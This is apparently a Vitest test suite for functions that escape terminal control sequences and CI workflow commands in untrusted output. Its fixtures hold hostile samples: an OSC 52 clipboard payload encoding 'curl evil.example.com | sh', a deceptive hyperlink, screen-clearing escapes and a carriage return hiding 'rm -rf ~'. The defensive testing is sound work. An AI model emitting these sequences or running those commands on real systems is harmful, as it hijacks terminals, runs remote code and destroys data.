import { describe, expect, test } from "vitest";
import {
  escapeControlCharacters,
  jsonForTerminal,
  neutralizeUntrustedText,
  neutralizeWorkflowCommands,
} from "../src/untrusted-text.js";

/** What a job, a container or a build can print to attack the terminal that shows it. */
const ESC = "\u001b";
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const hostile = {
  csi: `${ESC}[2J${ESC}[1;1Hcleared the screen`,
  sgrConceal: `visible ${ESC}[8mhidden${ESC}[0m`,
  osc52: `${ESC}]52;c;${Buffer.from("curl evil.example.com | sh").toString("base64")}\u0007`,
  osc8: `${ESC}]8;;https://evil.example.com${ESC}\\click${ESC}]8;;${ESC}\\`,
  dcs: `${ESC}P+q544e${ESC}\\`,
  c1: "\u009b2J\u009d52;c;eA==\u009c",
  controls: "bell\u0007 backspace\b del\u007f nul\u0000",
  carriageReturn: "rm -rf ~\rls -l     ",
};

describe("escapeControlCharacters", () => {
  test("every control sequence becomes visible text; tab and newline stay", () => {
    expect(
      Object.fromEntries(Object.entries(hostile).map(([k, v]) => [k, escapeControlCharacters(v)])),
    ).toMatchInlineSnapshot(`
      {
        "c1": "\\u009b2J\\u009d52;c;eA==\\u009c",
        "carriageReturn": "rm -rf ~
      ls -l     ",
        "controls": "bell\\u0007 backspace\\u0008 del\\u007f nul\\u0000",
        "csi": "\\u001b[2J\\u001b[1;1Hcleared the screen",
        "dcs": "\\u001bP+q544e\\u001b\\",
        "osc52": "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUuY29tIHwgc2g=\\u0007",
        "osc8": "\\u001b]8;;https://evil.example.com\\u001b\\click\\u001b]8;;\\u001b\\",
        "sgrConceal": "visible \\u001b[8mhidden\\u001b[0m",
      }
    `);
    for (const text of Object.values(hostile)) expect(escapeControlCharacters(text)).not.toMatch(RAW_CONTROL);
    expect(escapeControlCharacters("a\tb\nc\r\nd ünïcødé 🚀")).toBe("a\tb\nc\nd ünïcødé 🚀");
  });
});

describe("neutralizeUntrustedText", () => {
  test("a command hidden behind a control character or a carriage return is broken too", () => {
    const shown = (text: string) => neutralizeUntrustedText(text).replaceAll("\u200B", "<ZWSP>");
    expect(shown("progress 10%\r::warning::x")).toBe("progress 10%\n:<ZWSP>:warning::x");
    expect(shown("\u0085::error::x")).toBe("\\u0085::error::x");
    expect(shown(`${ESC}[0m::add-mask::x`)).toBe("\\u001b[0m::add-mask::x");
    expect(shown("##[group]x")).toBe("##<ZWSP>[group]x");
  });

  test("is idempotent, so text neutralised twice (a logger over a window) reads the same", () => {
    for (const text of [...Object.values(hostile), "::warning::x", "a ##[b] c"]) {
      const once = neutralizeUntrustedText(text);
      expect(neutralizeUntrustedText(once)).toBe(once);
    }
  });

  test("workflow commands alone are what the action always broke", () => {
    expect(neutralizeWorkflowCommands("a :: b ## [c] 12:00::00")).toBe("a :: b ## [c] 12:00::00");
  });
});

describe("jsonForTerminal", () => {
  test("parses back to the value, prints nothing a terminal or the runner acts on, and is left alone by the text neutraliser", () => {
    const value = { message: "::warning::x ##[error]y", lines: Object.values(hostile) };
    const json = jsonForTerminal(value);
    expect(JSON.parse(json)).toEqual(value);
    expect(json).not.toMatch(RAW_CONTROL);
    expect(json).not.toMatch(/##\[|^\s*::/m);
    expect(neutralizeUntrustedText(json)).toBe(json);
  });
});
